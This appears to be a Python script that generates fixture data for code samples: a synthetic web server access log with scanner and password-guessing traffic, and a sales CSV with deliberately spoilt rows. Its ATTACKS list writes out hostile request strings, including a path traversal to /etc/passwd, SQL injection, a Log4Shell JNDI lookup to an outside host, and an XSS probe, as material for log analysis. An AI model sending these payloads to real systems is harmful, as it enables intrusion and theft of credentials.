#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Writes the data that ships with the samples, the same bytes each time: access-log-analyser/access.log and
csv-report/sales.csv. Run it in this folder after a change of what they should show."""
import random
from datetime import datetime, timedelta, timezone

rng = random.Random(20260302)

PAGES = [("GET", "/", 30), ("GET", "/products", 22), ("GET", "/products/{}", 30), ("GET", "/cart", 8), ("POST", "/api/cart", 9),
         ("POST", "/api/orders", 4), ("POST", "/api/login", 6), ("GET", "/api/search?q={}", 14), ("GET", "/static/app.{}.js", 12),
         ("GET", "/static/style.css", 12), ("GET", "/images/{}.webp", 34), ("GET", "/favicon.ico", 5), ("GET", "/robots.txt", 2),
         ("GET", "/account/orders/{}", 4), ("HEAD", "/health", 6)]
BROWSERS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0 Safari/537.36",
            "Mozilla/5.0 (X11; Linux x86_64; rv:122.0) Gecko/20100101 Firefox/122.0",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/604.1"]
BOTS = ["Mozilla/5.0 (compatible; examplebot/2.1; +https://bot.example/about)", "curl/8.5.0", "python-requests/2.31"]
ATTACKS = ["/wp-login.php", "/.env", "/.git/config", "/download?file=../../../../etc/passwd", "/api/search?q=1%20union%20select%20password%20from%20users",
           "/?x=${jndi:ldap://198.51.100.9/a}", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/xmlrpc.php"]


def access_log():
    """One morning, 06:00 to 12:00 UTC: a rush at nine, a database that stalls at 09:41, two scanners, one guesser of passwords."""
    clients = [f"203.0.113.{i}" for i in range(1, 200)] + [f"2001:db8::{i:x}" for i in range(1, 60)]
    weights = [1 / (i + 3) for i in range(len(clients))]
    rng.shuffle(clients)
    lines = []
    start = datetime(2026, 3, 2, 6, 0, tzinfo=timezone.utc)

    def add(when, client, method, target, status, size, agent, seconds, referer="-", user="-"):
        stamp = when.strftime("%d/%b/%Y:%H:%M:%S +0000")
        shown = "-" if method == "HEAD" or status == 304 else size
        lines.append((when, f'{client} - {user} [{stamp}] "{method} {target} HTTP/1.1" {status} {shown} "{referer}" "{agent}" {seconds:.3f}'))

    for minute in range(360):
        rate = 11 + 24 * max(0.0, 1 - abs(minute - 200) / 70)
        stalled = 221 <= minute < 227
        for _ in range(round(rng.gauss(rate, 2))):
            when = start + timedelta(minutes=minute, seconds=rng.random() * 60)
            client = rng.choices(clients, weights)[0]
            method, target, _ = rng.choices(PAGES, [p[2] for p in PAGES])[0]
            dynamic = "static" not in target and "images" not in target
            target = target.format(rng.randrange(1, 400))
            status, seconds = 200, rng.lognormvariate(-4.2 if not dynamic else -2.9, 0.6)
            size = round(rng.lognormvariate(10.5 if "images" in target else 8.6, 0.7))
            chance = rng.random()
            if method == "POST" and "orders" in target:
                status = 201
            elif target == "/api/login":
                status = 401 if chance < 0.12 else 200
            elif not dynamic and chance < 0.35:
                status = 304
            elif chance < 0.02:
                status = 404
            elif chance < 0.03:
                status = 301
            if stalled and dynamic:
                seconds += rng.uniform(1.5, 9)
                if rng.random() < 0.45:
                    status, size = rng.choice([502, 504]), 166
            elif rng.random() < 0.002:
                status, size = 500, 312
            if client == clients[3]:
                seconds *= 12  # somebody far away on a slow line
            agent = rng.choice(BROWSERS) if rng.random() < 0.93 else rng.choice(BOTS)
            referer = "https://shop.example/" if dynamic and rng.random() < 0.5 else "-"
            add(when, client, method, target, status, size, agent, seconds, referer)
    for scanner, minute in (("198.51.100.9", 95), ("198.51.100.77", 288)):
        for i in range(40):
            when = start + timedelta(minutes=minute, seconds=i * 1.7)
            add(when, scanner, "GET", ATTACKS[i % len(ATTACKS)], rng.choice([404, 404, 403, 400]), 153, "curl/8.5.0", 0.004)
    for i in range(60):
        add(start + timedelta(minutes=150, seconds=i * 4.1), "198.51.100.23", "POST", "/api/login", 401, 61, "python-requests/2.31", 0.21)
    lines.sort(key=lambda line: line[0])
    text = [line for _, line in lines]
    text.insert(2500, '203.0.113.8 - - [02/Mar/2026:08:5')  # the server was restarted while it wrote
    with open("access-log-analyser/access.log", "w", encoding="utf-8", newline="\n") as file:
        file.write("\n".join(text) + "\n")


def sales():
    """Three months of a small shop in four regions, with returns and some rows that a hand has spoilt."""
    products = [("Notebook A5", "4.90"), ("Notebook A4", "6.90"), ("Fountain pen", "24.50"), ("Ink, blue", "7.80"), ("Ink, black", "7.80"),
                ("Pencil set", "12.00"), ('Folder 12"', "3.40"), ("Desk lamp", "49.00"), ("Paper, 500 sheets", "8.20"), ("Eraser", "1.10")]
    regions, channels = ["North", "East", "South", "West"], ["web", "shop", "phone"]
    rows = ["date,order,region,channel,product,quantity,unit_price"]
    day = datetime(2026, 1, 1)
    order = 100000
    while day < datetime(2026, 4, 1):
        for _ in range(round(rng.gauss(24 if day.weekday() < 5 else 34, 5))):
            order += 1
            for _ in range(rng.choice([1, 1, 1, 2, 3])):
                name, price = rng.choices(products, range(10, 0, -1))[0]
                quantity = rng.choice([1, 1, 1, 2, 2, 3, 5, 10])
                if rng.random() < 0.015:
                    quantity = -1
                shown = '"' + name.replace('"', '""') + '"' if "," in name or '"' in name else name
                rows.append(f"{day:%Y-%m-%d},{order},{rng.choices(regions, [4, 3, 2, 3])[0]},{rng.choices(channels, [6, 3, 1])[0]},{shown},{quantity},{price}")
        day += timedelta(days=1)
    for at, text in ((700, "2026-01-19,101022,North,web,Eraser,two,1.10"), (1900, "2026-02-21,,East"), (2600, "03/03/2026,102001,West,web,Desk lamp,1,49.00")):
        rows.insert(at, text)
    with open("csv-report/sales.csv", "w", encoding="utf-8", newline="\n") as file:
        file.write("\n".join(rows) + "\n")


access_log()
sales()
